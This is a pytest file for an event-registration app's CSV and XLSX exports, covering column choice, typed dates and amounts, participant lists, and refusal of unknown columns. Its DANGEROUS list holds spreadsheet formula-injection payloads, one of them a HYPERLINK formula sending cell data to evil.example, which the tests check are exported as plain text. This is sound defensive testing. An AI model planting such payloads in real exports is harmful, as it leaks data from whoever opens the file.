"""Exports through the domain: chosen columns, CSV and XLSX, and no formula ever runs."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from eventreg.models import ApplicationStatus
from eventreg.services import exports
from eventreg.services.exports import ExportRefused, Format
from eventreg.services.review import Filters, Sort

Status = ApplicationStatus

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_csv_with_the_chosen_columns_in_the_lists_order(db, workshop, make_application):
    make_application(workshop, given_names="Ravi", family_name="Sharma", country="IN")
    make_application(
        workshop, given_names="Amina", family_name="Diallo", country="SN", status=Status.ACCEPTED
    )
    made = exports.export_list(
        workshop,
        filters=Filters(sort=Sort.NAME),
        columns=["family_name", "region", "status", "amount_due"],
        format=Format.CSV,
    )
    assert made.filename == f"{workshop.reference}-applications.csv"
    assert read_csv(made.content) == [
        ["Family name", "Region", "Status", "Amount due"],
        ["Diallo", "Africa", "Accepted", "2000.00"],
        ["Sharma", "Asia and the Pacific", "Submitted", "2000.00"],
    ]


def test_xlsx_keeps_amounts_as_numbers(db, workshop, make_application):
    make_application(workshop, family_name="Diallo")
    made = exports.export_list(
        workshop, filters=Filters(), columns=["family_name", "amount_due"], format=Format.XLSX
    )
    assert read_xlsx(made.content) == [["Family name", "Amount due"], ["Diallo", 2000]]


def test_xlsx_dates_are_date_cells_and_money_has_its_currency(db, workshop, make_application):
    submitted = datetime(2027, 3, 1, 8, 30, tzinfo=UTC)
    make_application(workshop, family_name="Diallo", submitted_at=submitted)
    made = exports.export_list(
        workshop,
        filters=Filters(),
        columns=["family_name", "submitted_at", "amount_due"],
        format=Format.XLSX,
    )
    [_name, when, due] = load_workbook(io.BytesIO(made.content)).active[2]
    assert when.is_date and when.value == datetime(2027, 3, 1, 9, 30)  # on the clock in Rome
    assert due.data_type == "n" and due.value == 2000
    assert due.number_format == f'"{workshop.currency}" #,##0.00'
    as_csv = exports.export_list(
        workshop, filters=Filters(), columns=["submitted_at"], format=Format.CSV
    )
    assert read_csv(as_csv.content)[1] == ["2027-03-01 09:30"]


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_name_that_looks_like_a_formula_is_exported_as_text(db, workshop, make_application, name):
    make_application(workshop, family_name=name, given_names=name, organisation=name)
    columns = ["family_name", "given_names", "organisation"]
    as_csv = exports.export_list(workshop, filters=Filters(), columns=columns, format=Format.CSV)
    assert read_csv(as_csv.content)[1] == ["'" + name] * 3

    as_xlsx = exports.export_list(workshop, filters=Filters(), columns=columns, format=Format.XLSX)
    sheet_xml = zipfile.ZipFile(io.BytesIO(as_xlsx.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no formula anywhere
    row = load_workbook(io.BytesIO(as_xlsx.content)).active[2]
    assert [cell.data_type for cell in row] == ["s", "s", "s"]
    # XML reads a carriage return back as a newline; the text is what matters.
    assert [cell.value.strip() for cell in row] == [name.strip()] * 3


def test_participants_list_for_the_venue(db, workshop, make_application):
    make_application(
        workshop, family_name="Zulu", status=Status.CONFIRMED, dietary_needs="Vegetarian"
    )
    make_application(
        workshop, family_name="Abebe", status=Status.ACCEPTED, access_needs="Step-free room"
    )
    make_application(workshop, family_name="Waiting", status=Status.WAITLISTED)
    made = exports.export_participants(workshop, format=Format.CSV)
    table = read_csv(made.content)
    assert table[0][:3] == ["Title", "Family name", "Given names"]
    assert [row[1] for row in table[1:]] == ["Abebe", "Zulu"]
    assert table[1][-2:] == ["Step-free room", "Accepted"]
    assert made.filename.endswith("-participants.csv")


def test_no_column_or_an_unknown_one_is_refused(db, workshop):
    for columns in ([], ["email", "password_hash"]):
        with pytest.raises(ExportRefused) as refusal:
            exports.export_list(workshop, filters=Filters(), columns=columns, format=Format.CSV)
        assert refusal.value.field == "columns"
